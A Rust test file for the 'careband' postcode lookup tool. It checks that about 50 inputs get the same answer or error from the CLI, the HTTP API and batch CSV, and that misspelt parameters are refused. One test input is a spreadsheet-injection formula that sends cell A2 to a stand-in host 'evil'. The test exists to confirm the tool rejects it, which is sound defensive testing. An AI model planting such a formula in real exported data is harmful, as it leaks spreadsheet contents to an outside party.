//! One input, one meaning (careband issue 12, items 1 and 2). Every input of the table is
//! sent through the four entry points: the built binary (`careband lookup --json`),
//! `GET /v1/lookup`, the bulk `POST /v1/lookup` and a batch row (the library's `batch::run`).
//! Each must give what the table says (the query it was read as, or the error code and the
//! correction), and all four must give the same answer. Where the entry points differ by
//! design (exit codes, batch statuses), the mapping used is the error table of
//! docs/http-api.md, read here, so the doc is checked too.
//!
//! Expected values: the normalised postcodes and corrections are written out by hand from the
//! inputs. That they are real, live postcodes of the dataset was checked with python3 over
//! geodata/postcodes/postcodes.csv (`csv.DictReader`, by the `postcode` column): NR1 1AA
//! (live, E 624073 N 308352, lat 52.626650 lon 1.309339), NR18 0UR, PE30 1EX, IP1 4AA,
//! NR2 2BB, NR25 7PQ and BS1 4DJ are live; BS1 1AA is terminated with a position; XX9 9ZZ
//! and SW1A 1AA are absent. Hethersett (village) and two "Ollands Road" rows (Attleborough,
//! Reepham) are in geodata/places/gazetteer.csv; "Qwxyz" is in no row of it.

use std::collections::HashMap;

use actix_web::http::StatusCode;
use actix_web::test as web_test;
use serde_json::{Value, json};

use careband::batch;
use careband::data::load::DataSource;
use careband::server::{self, config::ServeConfig};

use crate::common::DATASET;
use crate::common::cli::careband;
use crate::common::http::{send, state_with};

/// The day every input is answered for.
const ON: &str = "2019-06-01";

/// What is typed or given.
#[derive(Debug, Clone)]
enum Input {
    /// One box of text: the CLI's argument, `q=`, a batch `address` cell.
    Text(String),
    /// Latitude and longitude fields (the CLI has no such flags: it is given `lat,lon`).
    LatLon(&'static str, &'static str),
    /// Easting and northing fields (`--easting`, `--northing` on the CLI).
    Bng(&'static str, &'static str),
}

/// What every entry point must give.
#[derive(Debug, Clone, Copy)]
enum Want {
    /// A point answer (`kind: point`) whose `query` is this.
    Point(&'static str),
    /// An area summary (`kind: area`) of this partial postcode.
    Area(&'static str),
    /// Ranked places (`kind: places`).
    Places,
    /// An error with this code; for `bad_postcode`, exactly these suggestions.
    Error(&'static str, &'static [&'static str]),
}

fn t(s: &str) -> Input {
    Input::Text(s.to_string())
}

/// The table: at least 40 inputs, each with what it must give.
fn cases() -> Vec<(Input, Want)> {
    use Want::{Area, Error, Places, Point};
    // 304 characters, over the 300 limit; and 300 exactly, ending in a postcode.
    let too_long = "Norwich ".repeat(38);
    let mut at_limit = "Norfolk, ".repeat(33);
    at_limit.truncate(300 - " NR1 1AA".len());
    at_limit.push_str(" NR1 1AA");
    assert_eq!(
        (too_long.chars().count(), at_limit.chars().count()),
        (304, 300)
    );
    vec![
        // Spacing and case that read one way.
        (t("NR1 1AA"), Point("NR1 1AA")),
        (t("nr11aa"), Point("NR1 1AA")),
        (t(" NR1 1AA\n"), Point("NR1 1AA")),
        (t("nr1  1aa"), Point("NR1 1AA")),
        (t("NR1\t1AA"), Point("NR1 1AA")),
        (t("Nr1 1aA"), Point("NR1 1AA")),
        (t("nr25 7pq"), Point("NR25 7PQ")),
        (t("BS1 4DJ"), Point("BS1 4DJ")),
        (t("BS1 1AA"), Point("BS1 1AA")),
        // Spacing, punctuation and letters that must be corrected first.
        (t("NR11 AA"), Error("bad_postcode", &["NR1 1AA"])),
        (t("IP14 AA"), Error("bad_postcode", &["IP1 4AA"])),
        (t("N R 1 1 A A"), Error("bad_postcode", &["NR1 1AA"])),
        (t("NR11A A"), Error("bad_postcode", &["NR1 1AA"])),
        (t("NR1, 1AA"), Error("bad_postcode", &["NR1 1AA"])),
        (t("NR18-0UR"), Error("bad_postcode", &["NR18 0UR"])),
        (t("nr18 - 0ur"), Error("bad_postcode", &["NR18 0UR"])),
        (t("PE3O 1EX"), Error("bad_postcode", &["PE30 1EX"])),
        (t("NR1 IAA"), Error("bad_postcode", &["NR1 1AA"])),
        (
            t("Rose Lane, Norwich, NR1, 1AA"),
            Error("bad_postcode", &["NR1 1AA"]),
        ),
        (t("NR99X"), Error("bad_postcode", &[])),
        // Two postcodes, and one postcode twice.
        (
            t("from NR1 1AA to NR2 2BB"),
            Error("bad_postcode", &["NR1 1AA", "NR2 2BB"]),
        ),
        (
            t("NR1 1AA NR18 0UR"),
            Error("bad_postcode", &["NR1 1AA", "NR18 0UR"]),
        ),
        (t("NR1 1AA, nr11aa"), Point("NR1 1AA")),
        // Free text holding a postcode.
        (
            t("Flat 2, 10 Some Street, Norwich nr1 1aa"),
            Point("NR1 1AA"),
        ),
        (t("12 High St, Wymondham, NR18 0UR"), Point("NR18 0UR")),
        (t("NR1 1AA."), Point("NR1 1AA")),
        (t("(nr11aa)"), Point("NR1 1AA")),
        (Input::Text(at_limit), Point("NR1 1AA")),
        (Input::Text(too_long), Error("too_long", &[])),
        // Nothing in it.
        (t(""), Error("empty_text", &[])),
        (t("   "), Error("empty_text", &[])),
        (t(" ,. "), Error("empty_text", &[])),
        // Points in several forms.
        (t("52.626650,1.309339"), Point("52.62665,1.309339")),
        (t("52.626650, 1.309339"), Point("52.62665,1.309339")),
        (t("52.626650 1.309339"), Point("52.62665,1.309339")),
        (t("624073,308352"), Point("E 624073 N 308352")),
        (t("E 624073 N 308352"), Point("E 624073 N 308352")),
        (t("95,1"), Error("bad_coordinate", &[])),
        (t("52.6, 200"), Error("bad_coordinate", &[])),
        (
            Input::LatLon("52.626650", "1.309339"),
            Point("52.62665,1.309339"),
        ),
        (Input::Bng("624073", "308352"), Point("E 624073 N 308352")),
        (Input::LatLon("95", "1"), Error("bad_coordinate", &[])),
        // Partial postcodes.
        (t("NR1"), Area("NR1")),
        (t("nr1 1"), Area("NR1 1")),
        // Well-formed but unknown.
        (t("XX9 9ZZ"), Error("postcode_not_found", &[])),
        (t("sw1a1aa"), Error("postcode_not_found", &[])),
        // A place, a road with its town, and a name that is nowhere.
        (t("Hethersett"), Places),
        (t("Ollands Road, Reepham"), Places),
        (t("10 Qwxyz Zzkq"), Error("place_not_found", &[])),
        // Text a spreadsheet would run as a formula is never read (issue 18, item 3), but a
        // point is a point whatever its sign.
        (
            t("=HYPERLINK(\"http://evil/?\"&A2,\"NR1 1AA\")"),
            Error("formula_text", &[]),
        ),
        (t("@NR1 1AA"), Error("formula_text", &[])),
        (t("+NR1 1AA"), Error("formula_text", &[])),
        (t("52.626650, +1.309339"), Point("52.62665,1.309339")),
    ]
}

/// Percent-encodes every byte but the unreserved ones.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The error table of docs/http-api.md: code -> (HTTP status, CLI exit, batch status).
fn error_table() -> HashMap<String, (u16, Option<i32>, Option<String>)> {
    crate::common::docs::error_table()
        .into_iter()
        .map(|e| (e.code, (e.status, e.exit, e.batch)))
        .collect()
}

/// What one entry point gave: an answer (JSON, as the API has it) or an error (code and
/// suggestions), and the entry point's own outcome (HTTP status, exit code, batch status).
#[derive(Debug)]
struct Got {
    answer: Option<Value>,
    error: Option<(String, Vec<String>)>,
}

fn from_body(status: StatusCode, body: &Value) -> Got {
    if status == StatusCode::OK {
        let mut a = body.clone();
        if let Some(m) = a.as_object_mut() {
            m.remove("text_match");
        }
        Got {
            answer: Some(a),
            error: None,
        }
    } else {
        Got {
            answer: None,
            error: Some(error_of(&body["error"])),
        }
    }
}

fn error_of(e: &Value) -> (String, Vec<String>) {
    let code = e["code"].as_str().unwrap_or_default().to_string();
    let suggestions = e["suggestions"]
        .as_array()
        .map(|s| {
            s.iter()
                .map(|v| v.as_str().unwrap_or_default().to_string())
                .collect()
        })
        .unwrap_or_default();
    (code, suggestions)
}

/// Whether an answer counts as covered, as the CLI's exit code says.
fn covered(a: &Value) -> bool {
    match a["kind"].as_str() {
        Some("point") => a["resolution"]["covered"] == true,
        Some("area") => a["outside_coverage"].as_u64() < a["postcodes"].as_u64(),
        Some("places") => a["candidates"]
            .as_array()
            .is_some_and(|c| c.iter().any(|c| c["resolution"]["covered"] == true)),
        other => panic!("no answer kind {other:?}"),
    }
}

/// The CLI's arguments for an input.
fn cli_args(input: &Input) -> Vec<String> {
    let mut args = vec!["lookup".to_string()];
    match input {
        Input::Text(s) => args.push(s.clone()),
        Input::LatLon(lat, lon) => args.push(format!("{lat},{lon}")),
        Input::Bng(e, n) => {
            args.extend(["--easting", e, "--northing", n].map(str::to_string));
        }
    }
    args.extend(["--json", "--date", ON].map(str::to_string));
    args
}

/// Runs the binary for every input, four at a time (each run loads the dataset).
fn cli_runs(inputs: &[Input]) -> Vec<(i32, Value)> {
    let mut out: Vec<Option<(i32, Value)>> = vec![None; inputs.len()];
    std::thread::scope(|scope| {
        let chunks: Vec<_> = out
            .chunks_mut(inputs.len().div_ceil(4))
            .zip(inputs.chunks(inputs.len().div_ceil(4)))
            .collect();
        for (slots, ins) in chunks {
            scope.spawn(move || {
                for (slot, input) in slots.iter_mut().zip(ins) {
                    let args = cli_args(input);
                    let args: Vec<&str> = args.iter().map(String::as_str).collect();
                    let run = careband(&args);
                    let json = serde_json::from_str(&run.stdout).unwrap_or_else(|e| {
                        panic!(
                            "{input:?}: stdout is not JSON ({e}): {}\nstderr: {}",
                            run.stdout, run.stderr
                        )
                    });
                    if run.code == 2 {
                        assert!(
                            run.stderr.starts_with("careband: "),
                            "{input:?}: {}",
                            run.stderr
                        );
                    }
                    *slot = Some((run.code, json));
                }
            });
        }
    });
    out.into_iter().map(Option::unwrap).collect()
}

/// Batch rows for the inputs of one column layout, in order: each row's result columns by
/// name.
fn batch_rows(header: &[&str], rows: &[Vec<String>]) -> Vec<HashMap<String, String>> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(header).unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    let input = w.into_inner().unwrap();
    let (out, _) = crate::common::batch_csv(&input, ON);
    let names = batch::result_columns(&DATASET);
    let mut records = csv::ReaderBuilder::new()
        .has_headers(true)
        .flexible(true)
        .from_reader(&out[..]);
    let got: Vec<HashMap<String, String>> = records
        .records()
        .map(|r| {
            let r = r.unwrap();
            names
                .iter()
                .enumerate()
                .map(|(i, n)| (n.clone(), r[header.len() + i].to_string()))
                .collect()
        })
        .collect();
    assert_eq!(got.len(), rows.len(), "one output row per input row");
    got
}

/// The batch row of every input: text in an `address` column, fields in their own columns.
fn batch_runs(inputs: &[Input]) -> Vec<HashMap<String, String>> {
    let mut texts = Vec::new();
    let mut lat_lon = Vec::new();
    let mut bng = Vec::new();
    for input in inputs {
        match input {
            Input::Text(s) => texts.push(vec![s.clone()]),
            Input::LatLon(a, b) => lat_lon.push(vec![(*a).to_string(), (*b).to_string()]),
            Input::Bng(a, b) => bng.push(vec![(*a).to_string(), (*b).to_string()]),
        }
    }
    let mut texts = batch_rows(&["address"], &texts).into_iter();
    let mut lat_lon = batch_rows(&["lat", "lon"], &lat_lon).into_iter();
    let mut bng = batch_rows(&["easting", "northing"], &bng).into_iter();
    inputs
        .iter()
        .map(|i| match i {
            Input::Text(_) => texts.next(),
            Input::LatLon(..) => lat_lon.next(),
            Input::Bng(..) => bng.next(),
        })
        .map(Option::unwrap)
        .collect()
}

#[actix_web::test]
async fn every_input_means_the_same_in_the_cli_get_bulk_and_batch() {
    let cases = cases();
    assert!(cases.len() >= 40, "{} inputs", cases.len());
    let table = error_table();
    let inputs: Vec<Input> = cases.iter().map(|(i, _)| i.clone()).collect();
    let cli = cli_runs(&inputs);
    let rows = batch_runs(&inputs);
    let app = web_test::init_service(server::app(state_with(
        ServeConfig::default(),
        DataSource::Embedded,
    )))
    .await;
    for (((input, want), (exit, cli_json)), row) in cases.iter().zip(&cli).zip(&rows) {
        // GET and bulk.
        let (uri, item) = match input {
            Input::Text(s) => (format!("q={}", enc(s)), json!({"q": s, "date": ON})),
            Input::LatLon(a, b) => (
                format!("lat={a}&lon={b}"),
                json!({"lat": a.parse::<f64>().unwrap(), "lon": b.parse::<f64>().unwrap(), "date": ON}),
            ),
            Input::Bng(a, b) => (
                format!("easting={a}&northing={b}"),
                json!({"easting": a.parse::<f64>().unwrap(), "northing": b.parse::<f64>().unwrap(), "date": ON}),
            ),
        };
        let r = send(
            &app,
            web_test::TestRequest::get()
                .uri(&format!("/v1/lookup?{uri}&date={ON}"))
                .to_request(),
        )
        .await;
        let get = from_body(r.status, &r.json());
        let bulk = send(
            &app,
            web_test::TestRequest::post()
                .uri("/v1/lookup")
                .set_json(json!([item]))
                .to_request(),
        )
        .await;
        assert_eq!(bulk.status, StatusCode::OK, "{input:?}: {}", bulk.text());
        let b = &bulk.json()["results"][0];
        assert_eq!(
            b["status"].as_u64(),
            Some(u64::from(r.status.as_u16())),
            "{input:?}: bulk {b} against GET {}",
            r.text()
        );
        let bulk = if b["status"] == 200 {
            from_body(StatusCode::OK, &b["answer"])
        } else {
            from_body(StatusCode::BAD_REQUEST, b)
        };
        let cli = if cli_json.get("error").is_some() {
            from_body(StatusCode::BAD_REQUEST, cli_json)
        } else {
            from_body(StatusCode::OK, cli_json)
        };
        // The same answer or error everywhere.
        assert_eq!(get.answer, bulk.answer, "{input:?}: GET and bulk answers");
        assert_eq!(get.answer, cli.answer, "{input:?}: GET and CLI answers");
        assert_eq!(get.error, bulk.error, "{input:?}: GET and bulk errors");
        assert_eq!(get.error, cli.error, "{input:?}: GET and CLI errors");
        check(input, *want, &get, r.status, *exit, row, &table);
    }
}

/// Checks one input's GET result (the others equal it), CLI exit and batch row against what
/// the table wants.
fn check(
    input: &Input,
    want: Want,
    get: &Got,
    http: StatusCode,
    exit: i32,
    row: &HashMap<String, String>,
    table: &HashMap<String, (u16, Option<i32>, Option<String>)>,
) {
    let status = &row["status"];
    match (want, &get.answer, &get.error) {
        (Want::Point(q), Some(a), None) => {
            assert_eq!(a["kind"], "point", "{input:?}: {a}");
            assert_eq!(a["query"], q, "{input:?}");
            let covered = covered(a);
            assert_eq!(exit, i32::from(!covered), "{input:?}: CLI exit");
            assert_eq!(
                status,
                if covered {
                    "answered"
                } else {
                    "outside_coverage"
                },
                "{input:?}: {row:?}"
            );
            assert!(row["query_used"].starts_with(q), "{input:?}: {row:?}");
            // The batch columns carry the same band and rate.
            let s = &a["resolution"]["schemes"];
            if covered {
                let band = s[0]["banding"]["band"]["name"].as_str().unwrap_or_default();
                assert!(row["band"].starts_with(band), "{input:?}: {row:?}");
                if let Some(rate) = s[0]["rate"]["hourly"].as_f64() {
                    assert!(row["rate"].starts_with(&format!("{rate:.2}")), "{row:?}");
                }
            }
        }
        (Want::Area(q), Some(a), None) => {
            assert_eq!(a["kind"], "area", "{input:?}: {a}");
            assert_eq!(a["query"], q, "{input:?}");
            assert_eq!(exit, i32::from(!covered(a)), "{input:?}: CLI exit");
            assert_eq!(status, "bad_input", "{input:?}: a row needs one point");
            assert!(row["error"].contains("partial postcode"), "{row:?}");
        }
        (Want::Places, Some(a), None) => {
            assert_eq!(a["kind"], "places", "{input:?}: {a}");
            assert!(!a["candidates"].as_array().unwrap().is_empty());
            assert_eq!(exit, i32::from(!covered(a)), "{input:?}: CLI exit");
            if a["clear"] == true {
                // One candidate stands out and agrees across its postcodes: the row is
                // answered at its point, as the CLI and the API answer it.
                let best = &a["candidates"][0];
                assert_eq!(status, "answered", "{input:?}: {row:?}");
                assert_eq!(
                    row["query_used"],
                    best["label"].as_str().unwrap(),
                    "{input:?}"
                );
                assert_eq!(
                    row["precision"],
                    best["precision"].as_str().unwrap(),
                    "{input:?}"
                );
                let s = &best["resolution"]["schemes"][0];
                let band = s["banding"]["band"]["name"].as_str().unwrap_or_default();
                assert!(row["band"].starts_with(band), "{input:?}: {row:?}");
            } else {
                assert_eq!(status, "bad_input", "{input:?}: no single point: {row:?}");
            }
        }
        (Want::Error(code, suggestions), None, Some((got, got_suggestions))) => {
            assert_eq!(got, code, "{input:?}");
            if code == "bad_postcode" {
                assert_eq!(got_suggestions, suggestions, "{input:?}");
                for s in suggestions {
                    assert!(row["error"].contains(s), "{input:?}: {row:?}");
                }
            }
            let (want_http, cli_exit, batch_status) = &table[code];
            assert_eq!(http.as_u16(), *want_http, "{input:?}: the table's status");
            assert_eq!(Some(exit), *cli_exit, "{input:?}: the table's CLI exit");
            let blank = matches!(input, Input::Text(s) if s.trim().is_empty());
            if blank {
                assert_eq!(status, "blank", "{input:?}");
            } else {
                assert_eq!(
                    Some(status),
                    batch_status.as_ref(),
                    "{input:?}: the table's batch status, {row:?}"
                );
            }
        }
        (want, answer, error) => {
            panic!("{input:?}: wanted {want:?}, got {answer:?} / {error:?}")
        }
    }
}

#[actix_web::test]
async fn a_misspelt_parameter_is_refused_on_every_get_route_naming_the_nearest() {
    let app = web_test::init_service(server::app(state_with(
        ServeConfig::default(),
        DataSource::Embedded,
    )))
    .await;
    for (uri, param, hint) in [
        (
            "/v1/lookup?postcode=NR1%201AA&dat=2018-06-01",
            "dat",
            " (did you mean 'date'?)",
        ),
        ("/v1/lookup?qq=Hethersett", "qq", " (did you mean 'q'?)"),
        (
            "/v1/places?q=heth&limt=5",
            "limt",
            " (did you mean 'limit'?)",
        ),
        (
            "/v1/postcodes/NR1%201AA?date=2019-06-01",
            "date",
            " (this route takes no parameters)",
        ),
        ("/v1/schemes?x=1", "x", " (this route takes no parameters)"),
        (
            "/v1/schemes/norfolk?x=1",
            "x",
            " (this route takes no parameters)",
        ),
        (
            "/v1/schemes/norfolk/layers/ccg2019.geojson?x=1",
            "x",
            " (this route takes no parameters)",
        ),
        (
            "/v1/schemes/norfolk/bands.geojson?data=2019-06-01",
            "data",
            " (did you mean 'date'?)",
        ),
    ] {
        let r = send(&app, web_test::TestRequest::get().uri(uri).to_request()).await;
        let e = r.error(StatusCode::BAD_REQUEST, "unknown_parameter");
        assert_eq!(e["field"], param, "{uri}");
        assert_eq!(
            e["message"],
            format!("unknown parameter '{param}'{hint}"),
            "{uri}"
        );
    }
    // The parameters each route documents still pass.
    let r = send(
        &app,
        web_test::TestRequest::get()
            .uri("/v1/lookup?postcode=NR1%201AA&date=2018-06-01")
            .to_request(),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json()["resolution"]["date"], "2018-06-01");
}

#[test]
fn the_cli_refuses_a_misplaced_space_with_the_postcode_suggested() {
    // careband issue 12: `NR11 AA` was answered as NR1 1AA.
    let run = careband(&["lookup", "NR11 AA"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert_eq!(
        run.stderr.trim_end(),
        "careband: \"NR11 AA\" has a space in the wrong place: did you mean NR1 1AA?"
    );
}
